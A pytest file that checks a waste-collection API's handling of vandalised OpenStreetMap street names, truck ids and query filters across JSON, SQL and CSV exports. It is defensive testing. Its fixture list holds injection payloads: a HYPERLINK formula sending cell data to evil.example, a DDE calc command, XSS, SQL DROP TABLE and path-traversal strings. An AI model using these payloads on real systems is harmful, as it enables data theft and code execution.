"""Hostile text reaching the API and its exports: OSM street names, truck ids, query parameters.

Street names come from OpenStreetMap, which anyone can edit: a name can be HTML, SQL or a
spreadsheet formula. They must come back verbatim in JSON (the dashboard escapes them), harmless
in SQL (bound parameters), and neutralised in CSV exports that managers open in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from server.ingest.models import Lift
from tests.server.conftest import Server
from tests.server.events import lift_event
from tests.server.test_api import seed

# Street names as a vandal could type them into OpenStreetMap.
HOSTILE_NAMES = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Rue\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<img src=x onerror=alert(1)>",
    "Rue'); DROP TABLE streets; --",
    "{{ 7*7 }} ${7*7}",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
STORED_NAMES = sorted(name.strip() for name in HOSTILE_NAMES)  # the import trims outer spaces


def street_file(folder: Path) -> Path:
    """One street per hostile name, 50 m apart along a meridian near Rennes."""
    features = [{"type": "Feature", "id": i + 1,
                 "properties": {"name": name, "highway": "residential", "commune": "Rennes"},
                 "geometry": {"type": "LineString",
                              "coordinates": [[-1.68, 48.11 + i * 0.0005], [-1.679, 48.11 + i * 0.0005]]}}
                for i, name in enumerate(HOSTILE_NAMES)]
    path = folder / "hostile.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    return path


@pytest.fixture
def api(make_settings: Any, run_server: Any, tmp_path: Path) -> Iterator[Server]:
    from server.streets.importer import import_street_file
    from server.streets.locator import Locator

    with run_server(make_settings(ingest_enabled=False)) as server:
        with server.sessions() as session, session.begin():
            import_street_file(session, street_file(tmp_path))
        events = [lift_event("truck-a", gps=(48.11 + i * 0.0005, -1.6795), counts={"bottle": 1, "bag": 1})
                  for i in range(len(HOSTILE_NAMES))]
        with server.sessions() as session:
            seed(server, events, Locator.from_session(session))
        yield server


def test_hostile_street_names_round_trip_verbatim_in_json(api: Server) -> None:
    streets = api.client.get("/api/streets", headers=api.token("viewer")).json()["streets"]
    assert sorted(s["name"] for s in streets) == STORED_NAMES  # the DROP TABLE did nothing
    with api.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Lift)) == len(HOSTILE_NAMES)


def test_csv_export_neutralises_formulas(api: Server) -> None:
    response = api.client.get("/api/streets?format=csv", headers=api.token("viewer"))
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(HOSTILE_NAMES)
    cells = [cell for row in rows for cell in row.values() if isinstance(cell, str) and cell]
    assert [cell for cell in cells if cell.startswith(FORMULA_START) and not _number(cell)] == []
    assert sorted(row["name"].removeprefix("'") for row in rows) == STORED_NAMES  # nothing else changed


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_geojson_carries_hostile_names_as_data(api: Server) -> None:
    features = api.client.get("/api/streets.geojson", headers=api.token("viewer")).json()["features"]
    assert sorted(f["properties"]["name"] for f in features) == STORED_NAMES


@pytest.mark.parametrize("query", ["truck_id=' OR '1'='1", "truck_id=truck-a' --", "truck_id=%25",
                                   "truck_id=truck-_", "commune=' OR 1=1 --"])
def test_filters_are_values_not_sql(api: Server, query: str) -> None:
    path = "/api/lifts" if query.startswith("truck_id") else "/api/streets"
    response = api.client.get(f"{path}?{query}", headers=api.token("manager"))
    if query.startswith("commune"):  # a commune without streets is named back, as a value, in a 422
        assert response.status_code == 422 and "OR 1=1 --\": no street is in it" in response.json()["detail"]
        return
    assert response.status_code == 200
    body = response.json()
    assert (body.get("items") if "items" in body else body["streets"]) == []


@pytest.mark.parametrize("truck_id", ["..", "../truck-b", "truck-a%2F..%2Fx", "a+b", "a#b", "x" * 65])
def test_truck_config_refuses_ids_that_are_not_truck_ids(api: Server, truck_id: str) -> None:
    response = api.client.put(f"/api/trucks/{truck_id}/config", json={"stream": "glass"},
                              headers=api.token("admin"))
    assert response.status_code in (404, 422)


def test_an_infinite_score_never_breaks_the_api(api: Server) -> None:
    """pydantic reads ``1e999`` as inf: the parser refuses it now (vision/schema.py bounds), and a row
    stored before that bound (an older server) still does not break the API."""
    body = json.loads(lift_event("truck-a").to_json())
    body["score"] = 1e999
    from vision.schema import SchemaError, parse_lift_event

    with pytest.raises(SchemaError, match=r"^score:"):
        parse_lift_event(json.dumps(body))
    from datetime import UTC, datetime

    from server.ingest.aggregates import insert_lifts, lift_row

    event = lift_event("truck-a").model_copy(update={"score": float("inf")})  # not validated: as once stored
    with api.sessions() as session, session.begin():  # past the parser, straight into the table
        insert_lifts(session, [lift_row(event, datetime.now(UTC), api.settings.zone, None)])
    headers = api.token("manager")
    for path in (f"/api/lifts/{event.event_id}", "/api/lifts", "/api/streets", "/api/streets.geojson",
                 "/api/streets?format=csv"):
        assert api.client.get(path, headers=headers).status_code == 200, path
